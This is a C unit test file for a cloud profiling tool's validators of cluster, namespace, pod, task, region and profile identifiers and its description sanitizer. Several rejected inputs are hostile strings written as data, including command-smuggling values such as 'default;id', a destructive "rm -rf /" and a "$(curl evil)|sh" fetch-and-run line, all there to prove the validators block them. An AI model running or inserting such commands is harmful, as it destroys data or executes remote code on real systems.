/* SPDX-License-Identifier: Apache-2.0 */
/* test_target.c: identifier validation and the description sanitizer (target.c). */
#include "unit.h"

#include "batch.h"
#include "target.h"
#include "util.h"

static char *
repeat(char c, size_t n)
{
	char *s = malloc(n + 1);

	assert_non_null(s);
	memset(s, c, n);
	s[n] = '\0';
	return s;
}

/* ---- cluster ids ---- */

static void
cluster_id_should_accept_c_and_32_lowercase_hex(void **state)
{
	(void)state;
	assert_true(valid_cluster_id("c4f1a9e27b8d34c6a9e0f5b2d7c81a3e6"));
	assert_true(valid_cluster_id("c0ee8f62dd10541c598af3627d5b6cda7"));
	assert_true(valid_cluster_id("c00000000000000000000000000000000"));
}

static void
cluster_id_should_reject_uppercase(void **state)
{
	(void)state;
	assert_false(valid_cluster_id("C4f1a9e27b8d34c6a9e0f5b2d7c81a3e6"));
	assert_false(valid_cluster_id("c4F1A9E27B8D34C6A9E0F5B2D7C81A3E6"));
}

static void
cluster_id_should_reject_short_and_long(void **state)
{
	(void)state;
	assert_false(valid_cluster_id("c4f1a9e27b8d34c6a9e0f5b2d7c81a3e"));	/* 31 */
	assert_false(valid_cluster_id("c4f1a9e27b8d34c6a9e0f5b2d7c81a3e6a"));	/* 33 */
	assert_false(valid_cluster_id("c"));
	assert_false(valid_cluster_id(""));
}

static void
cluster_id_should_reject_trailing_newline_and_injection(void **state)
{
	(void)state;
	assert_false(valid_cluster_id("c4f1a9e27b8d34c6a9e0f5b2d7c81a3e6\n"));
	assert_false(valid_cluster_id("c4f1a9e27b8d34c6a9e0f5b2d7c81a3e6 "));
	assert_false(valid_cluster_id("c4f1a9e27b8d34c6a9e0f5b2d7c81a3e6/../x"));
	assert_false(valid_cluster_id("c82e6987e2961451182edacd74faf****"));
	assert_false(valid_cluster_id("x4f1a9e27b8d34c6a9e0f5b2d7c81a3e6"));
	assert_false(valid_cluster_id("c4f1a9e27b8d34c6a9e0f5b2d7c81a3eg"));
	assert_false(valid_cluster_id(" c4f1a9e27b8d34c6a9e0f5b2d7c81a3e6"));
}

/* ---- namespaces: RFC 1123 labels ---- */

/* Issue 20, item 6: Critical, then the highest failure, then Warn, then Info; --fail-on. */
static void
batch_exit_should_put_critical_before_failures(void **state)
{
	int codes[256] = {0};

	(void)state;
	codes[2] = 1;
	codes[65] = 1;
	codes[69] = 1;
	codes[1] = 1;
	assert_int_equal(batch_exit_code(codes, FAIL_WARN), 2);
	assert_int_equal(batch_exit_code(codes, FAIL_CRITICAL), 2);
	assert_int_equal(batch_exit_code(codes, FAIL_ERROR), 69);
	assert_int_equal(batch_exit_code(codes, FAIL_NEVER), 0);
	codes[2] = 0;
	assert_int_equal(batch_exit_code(codes, FAIL_WARN), 69);
	codes[65] = codes[69] = 0;
	assert_int_equal(batch_exit_code(codes, FAIL_WARN), 1);
	assert_int_equal(batch_exit_code(codes, FAIL_CRITICAL), 0);
	codes[1] = 0;
	codes[0] = 3;
	assert_int_equal(batch_exit_code(codes, FAIL_WARN), 0);
	assert_int_equal(batch_fail_on("critical"), FAIL_CRITICAL);
	assert_int_equal(batch_fail_on("never"), FAIL_NEVER);
	assert_int_equal(batch_fail_on("Warn"), -1);
	assert_int_equal(batch_fail_on(""), -1);
}

static void
namespace_should_accept_rfc1123_labels(void **state)
{
	char *s = repeat('a', 63);

	(void)state;
	assert_true(valid_namespace("default"));
	assert_true(valid_namespace("kube-system"));
	assert_true(valid_namespace("a"));
	assert_true(valid_namespace("0team-1"));
	assert_true(valid_namespace(s));
	free(s);
}

static void
namespace_should_reject_64_characters(void **state)
{
	char *s = repeat('a', 64);

	(void)state;
	assert_false(valid_namespace(s));
	free(s);
}

static void
namespace_should_reject_dashes_at_either_end(void **state)
{
	(void)state;
	assert_false(valid_namespace("-default"));
	assert_false(valid_namespace("default-"));
	assert_false(valid_namespace("-"));
}

static void
namespace_should_reject_dots_uppercase_and_empty(void **state)
{
	(void)state;
	assert_false(valid_namespace("kube.system"));
	assert_false(valid_namespace("Default"));
	assert_false(valid_namespace("DEFAULT"));
	assert_false(valid_namespace(""));
	assert_false(valid_namespace("my_ns"));
	assert_false(valid_namespace("ns\xc3\xa9"));
}

static void
namespace_should_reject_newline_injection(void **state)
{
	(void)state;
	assert_false(valid_namespace("default\n"));
	assert_false(valid_namespace("default\nkube-system"));
	assert_false(valid_namespace("default --profile x"));
	assert_false(valid_namespace("default;id"));
}

/* ---- pods: RFC 1123 subdomains ---- */

static void
pod_should_accept_rfc1123_subdomains(void **state)
{
	char *s = repeat('a', 253);

	(void)state;
	assert_true(valid_pod("test-app-64cdcb7b98-gchks"));
	assert_true(valid_pod("web.v1.prod"));
	assert_true(valid_pod("a"));
	assert_true(valid_pod("0"));
	assert_true(valid_pod(s));
	free(s);
}

static void
pod_should_reject_254_characters(void **state)
{
	char *s = repeat('a', 254);

	(void)state;
	assert_false(valid_pod(s));
	s[100] = '.';	/* still too long with dots */
	assert_false(valid_pod(s));
	free(s);
}

static void
pod_should_reject_bad_dots_and_dashes(void **state)
{
	(void)state;
	assert_false(valid_pod("-app"));
	assert_false(valid_pod("app-"));
	assert_false(valid_pod(".app"));
	assert_false(valid_pod("app."));
	assert_false(valid_pod("app..v1"));
	assert_false(valid_pod("app.-v1"));
	assert_false(valid_pod("app-.v1"));
}

static void
pod_should_reject_uppercase_empty_and_injection(void **state)
{
	(void)state;
	assert_false(valid_pod("App"));
	assert_false(valid_pod(""));
	assert_false(valid_pod("app\n"));
	assert_false(valid_pod("app\nrm"));
	assert_false(valid_pod("app name"));
	assert_false(valid_pod("app/other"));
	assert_false(valid_pod("app_1"));
	assert_false(valid_pod("\xff\xfe"));
}

/* ---- task ids, regions, profiles, descriptions ---- */

static void
task_id_should_accept_sysom_ids(void **state)
{
	char *s = repeat('A', 64);

	(void)state;
	assert_true(valid_task_id("qT7mYx2L"));
	assert_true(valid_task_id("ihqhAcrt"));
	assert_true(valid_task_id("a_b-c"));
	assert_true(valid_task_id(s));
	free(s);
}

static void
task_id_should_reject_empty_long_and_shell_text(void **state)
{
	char *s = repeat('A', 65);

	(void)state;
	assert_false(valid_task_id(""));
	assert_false(valid_task_id(s));
	assert_false(valid_task_id("qT7mYx2L\n"));
	assert_false(valid_task_id("qT7 mYx2L"));
	assert_false(valid_task_id("qT7;id"));
	assert_false(valid_task_id("../x"));
	assert_false(valid_task_id("--profile"  "\x01"));
	free(s);
}

/* Issue 11, item 6: `ackprof result -- --help` ran `aliyun ... --task-id --help`. */
static void
task_id_should_start_with_a_letter_or_digit(void **state)
{
	char *s = repeat('A', 64);

	(void)state;
	s[0] = '-';
	assert_false(valid_task_id(s));
	assert_false(valid_task_id("--help"));
	assert_false(valid_task_id("-x"));
	assert_false(valid_task_id("-"));
	assert_false(valid_task_id("_abc"));
	assert_true(valid_task_id("0abc-"));
	assert_true(valid_task_id("x"));
	free(s);
}

static void
region_should_accept_alibaba_region_ids(void **state)
{
	(void)state;
	assert_true(valid_region("cn-hangzhou"));
	assert_true(valid_region("cn-beijing"));
	assert_true(valid_region("ap-southeast-1"));
	assert_true(valid_region("cn-shanghai-finance-1"));
	assert_true(valid_region("us-west-1"));
}

static void
region_should_reject_malformed_regions(void **state)
{
	(void)state;
	assert_false(valid_region(""));
	assert_false(valid_region("cn"));
	assert_false(valid_region("cn-"));
	assert_false(valid_region("-cn-hangzhou"));
	assert_false(valid_region("CN-hangzhou"));
	assert_false(valid_region("cn_hangzhou"));
	assert_false(valid_region("cn-hangzhou\n"));
	assert_false(valid_region("cn-hangzhou --profile x"));
}

static void
profile_name_should_accept_names_and_reject_spaces(void **state)
{
	(void)state;
	assert_true(valid_profile_name("default"));
	assert_true(valid_profile_name("prod.ops@corp-1"));
	assert_false(valid_profile_name(""));
	assert_false(valid_profile_name("a b"));
	assert_false(valid_profile_name("a\n"));
	assert_false(valid_profile_name("--help;"));
}

static void
description_should_match_only_the_sysom_charset(void **state)
{
	(void)state;
	assert_true(valid_description(""));
	assert_true(valid_description("pod_oom"));
	assert_true(valid_description("High-Load_2"));
	assert_false(valid_description("pod oom"));
	assert_false(valid_description("pod.oom"));
	assert_false(valid_description("\xe9\xab\x98"));
	assert_false(valid_description("pod_oom\n"));
}

/* Regression (fixed): re_match() compiles with PCRE2_MATCH_INVALID_UTF, so \z matches where an
	 * invalid UTF-8 byte starts: "default\xff", "pod\xffanything" and a cluster id
	 * followed by \xff all pass.  Fix: target.c re_match(), compile with PCRE2_UTF
	 * alone (pcre2_match then fails with a UTF error, which re_match reads as no match). */
static void
validators_should_reject_invalid_utf8(void **state)
{
	(void)state;
	assert_false(valid_description("\xff"));
	assert_false(valid_description("pod_oom\xff"));
	assert_false(valid_namespace("default\xff"));
	assert_false(valid_pod("app\xff" "rm -rf"));
	assert_false(valid_cluster_id("c4f1a9e27b8d34c6a9e0f5b2d7c81a3e6\xff"));
	assert_false(valid_task_id("qT7mYx2L\x80"));
	assert_false(valid_region("cn-hangzhou\xc3"));
	assert_false(valid_profile_name("default\xff--x"));
}

/* ---- sanitize_description ---- */

static void
check_sanitize(const char *in, const char *want)
{
	char *got = sanitize_description(in);

	assert_non_null(got);
	if (strcmp(got, want) != 0)
		fail_msg("sanitize_description(\"%s\") = \"%s\", want \"%s\"", in, got, want);
	free(got);
}

static void
sanitize_should_follow_the_specification_examples(void **state)
{
	(void)state;
	check_sanitize("pod oom", "pod_oom");
	check_sanitize("\xe9\xab\x98\xe8\xb4\x9f\xe8\xbd\xbd", "high_load");	/* 高负载 */
	check_sanitize("Pod OOM diagnosis", "pod_oom_diagnosis");
	check_sanitize("", "");
}

static void
sanitize_should_drop_punctuation(void **state)
{
	(void)state;
	check_sanitize("a.b~c,d:e", "abcde");
	check_sanitize("pod oom.", "pod_oom");
	check_sanitize("oom, again", "oom_again");
	check_sanitize("!!!", "");
	check_sanitize("$(id) `x` 'y' \"z\"", "id_x_y_z");
}

static void
sanitize_should_map_mixed_chinese_and_english(void **state)
{
	(void)state;
	/* pod 内存泄漏 高 */
	check_sanitize("pod \xe5\x86\x85\xe5\xad\x98\xe6\xb3\x84\xe6\xbc\x8f \xe9\xab\x98",
	    "pod_memory_leak_high");
	/* pod内存 (no space: the mapped word is still its own token) */
	check_sanitize("pod\xe5\x86\x85\xe5\xad\x98", "pod_memory");
	/* 高负载pod */
	check_sanitize("\xe9\xab\x98\xe8\xb4\x9f\xe8\xbd\xbdpod", "high_load_pod");
	/* 网络抖动 */
	check_sanitize("\xe7\xbd\x91\xe7\xbb\x9c\xe6\x8a\x96\xe5\x8a\xa8", "network_jitter");
	/* CPU限流 */
	check_sanitize("CPU\xe9\x99\x90\xe6\xb5\x81", "cpu_throttling");
	/* 内存，网络 (a full-width comma between two words) */
	check_sanitize("\xe5\x86\x85\xe5\xad\x98\xef\xbc\x8c\xe7\xbd\x91\xe7\xbb\x9c",
	    "memory_network");
	/* An unknown CJK word is dropped: 你好 pod */
	check_sanitize("\xe4\xbd\xa0\xe5\xa5\xbd pod", "pod");
}

static void
sanitize_should_drop_invalid_utf8_without_crashing(void **state)
{
	(void)state;
	check_sanitize("\xff\xfe pod", "pod");
	check_sanitize("pod\x80\x80oom", "pod_oom");
	check_sanitize("oom\xe5\x86", "oom");		/* truncated sequence at the end */
	check_sanitize("\xe5", "");
	check_sanitize("\xc0\xaf\xed\xa0\x80x", "x");	/* overlong, surrogate */
}

static void
sanitize_should_not_leave_leading_trailing_or_double_underscores(void **state)
{
	(void)state;
	check_sanitize("__pod__oom__", "pod_oom");
	check_sanitize("  pod   oom  ", "pod_oom");
	check_sanitize("_", "");
	check_sanitize("\t\npod\r\n", "pod");
	check_sanitize("pod - oom", "pod_-_oom");
}

static void
check_output_shape(const char *in)
{
	char *got = sanitize_description(in);
	size_t n;

	assert_non_null(got);
	n = strlen(got);
	if (!valid_description(got))
		fail_msg("sanitize_description(\"%s\") = \"%s\" does not match ^[a-zA-Z0-9_-]*$", in, got);
	if (n > 128)
		fail_msg("sanitize_description(\"%s\") is %zu bytes long", in, n);
	if (n && (got[0] == '_' || got[n - 1] == '_'))
		fail_msg("sanitize_description(\"%s\") = \"%s\" has an edge underscore", in, got);
	if (strstr(got, "__"))
		fail_msg("sanitize_description(\"%s\") = \"%s\" has a double underscore", in, got);
	free(got);
}

static void
sanitize_should_always_produce_the_sysom_charset(void **state)
{
	static const char *const nasty[] = {
		"\xf0\x9f\x94\xa5 pod on fire \xf0\x9f\x94\xa5",	/* emoji */
		"\x1b[31mred\x1b[0m",
		"'; rm -rf / #",
		"$(curl evil)|sh",
		"\xef\xbc\x91\xef\xbc\x92\xef\xbc\x93",		/* full-width digits */
		"e\xcc\x81t\xc3\xa9",				/* combining accent, é */
		"a\xe2\x80\x8b" "b\xe2\x80\xae" "c",		/* ZWSP, RTL override */
		"\xc2\xa0nbsp\xc2\xa0",
		"\xc4\xb0stanbul",				/* dotted capital I */
		"\xf8\x88\x80\x80\x80 five-byte",
		"\x01\x02\x03\x7f",
		"a\\b/c|d<e>f&g",
		"____",
		"-_-_-",
		"\xe9\xab\x98_\xe9\xab\x98 _ \xe9\xab\x98",
		NULL,
	};
	int i;

	(void)state;
	for (i = 0; nasty[i]; i++)
		check_output_shape(nasty[i]);
}

static void
sanitize_should_survive_random_bytes(void **state)
{
	unsigned int seed = 12345;
	char in[400];
	int i, j, n;

	(void)state;
	for (i = 0; i < 3000; i++) {
		n = (int)((seed = seed * 1103515245u + 12345u) >> 16) % 399;
		for (j = 0; j < n; j++) {
			seed = seed * 1103515245u + 12345u;
			in[j] = (char)((seed >> 16) & 0xff);
			if (in[j] == '\0')
				in[j] = ' ';
			/* Bias toward the bytes of mapped CJK words and separators. */
			if ((seed >> 8 & 7) == 0)
				in[j] = "\xe9\xab\x98 _-."[(seed >> 12) % 6];
		}
		in[n] = '\0';
		check_output_shape(in);
	}
}

static void
sanitize_should_cap_the_length_at_128(void **state)
{
	char *in = repeat('a', 500), *got;
	struct buf b = {0};
	int i;

	(void)state;
	got = sanitize_description(in);
	assert_int_equal(strlen(got), 128);
	free(got);
	free(in);
	/* Expansion: each 高 (3 bytes) becomes "high" plus a separator. */
	for (i = 0; i < 200; i++)
		buf_adds(&b, "\xe9\xab\x98");
	got = sanitize_description(b.p);
	assert_true(strlen(got) <= 128);
	assert_true(strlen(got) >= 120);
	assert_true(valid_description(got));
	assert_true(got[strlen(got) - 1] != '_');
	assert_int_equal(strncmp(got, "high_high_", 10), 0);
	free(got);
	buf_free(&b);
	/* A cut that lands on a separator must not leave a trailing underscore. */
	in = repeat('a', 140);
	in[127] = ' ';
	got = sanitize_description(in);
	assert_int_equal(strlen(got), 127);
	assert_true(got[126] == 'a');
	free(got);
	free(in);
}

static int
teardown_all(void **state)
{
	(void)state;
	target_free_patterns();
	return 0;
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(cluster_id_should_accept_c_and_32_lowercase_hex),
		cmocka_unit_test(cluster_id_should_reject_uppercase),
		cmocka_unit_test(cluster_id_should_reject_short_and_long),
		cmocka_unit_test(cluster_id_should_reject_trailing_newline_and_injection),
		cmocka_unit_test(batch_exit_should_put_critical_before_failures),
		cmocka_unit_test(namespace_should_accept_rfc1123_labels),
		cmocka_unit_test(namespace_should_reject_64_characters),
		cmocka_unit_test(namespace_should_reject_dashes_at_either_end),
		cmocka_unit_test(namespace_should_reject_dots_uppercase_and_empty),
		cmocka_unit_test(namespace_should_reject_newline_injection),
		cmocka_unit_test(pod_should_accept_rfc1123_subdomains),
		cmocka_unit_test(pod_should_reject_254_characters),
		cmocka_unit_test(pod_should_reject_bad_dots_and_dashes),
		cmocka_unit_test(pod_should_reject_uppercase_empty_and_injection),
		cmocka_unit_test(task_id_should_accept_sysom_ids),
		cmocka_unit_test(task_id_should_reject_empty_long_and_shell_text),
		cmocka_unit_test(task_id_should_start_with_a_letter_or_digit),
		cmocka_unit_test(region_should_accept_alibaba_region_ids),
		cmocka_unit_test(region_should_reject_malformed_regions),
		cmocka_unit_test(profile_name_should_accept_names_and_reject_spaces),
		cmocka_unit_test(description_should_match_only_the_sysom_charset),
/* Regression (fixed): see validators_should_reject_invalid_utf8 */
		cmocka_unit_test(validators_should_reject_invalid_utf8),
		cmocka_unit_test(sanitize_should_follow_the_specification_examples),
		cmocka_unit_test(sanitize_should_drop_punctuation),
		cmocka_unit_test(sanitize_should_map_mixed_chinese_and_english),
		cmocka_unit_test(sanitize_should_drop_invalid_utf8_without_crashing),
		cmocka_unit_test(sanitize_should_not_leave_leading_trailing_or_double_underscores),
		cmocka_unit_test(sanitize_should_always_produce_the_sysom_charset),
		cmocka_unit_test(sanitize_should_survive_random_bytes),
		cmocka_unit_test(sanitize_should_cap_the_length_at_128),
	};

	return cmocka_run_group_tests_name("target", tests, NULL, teardown_all);
}
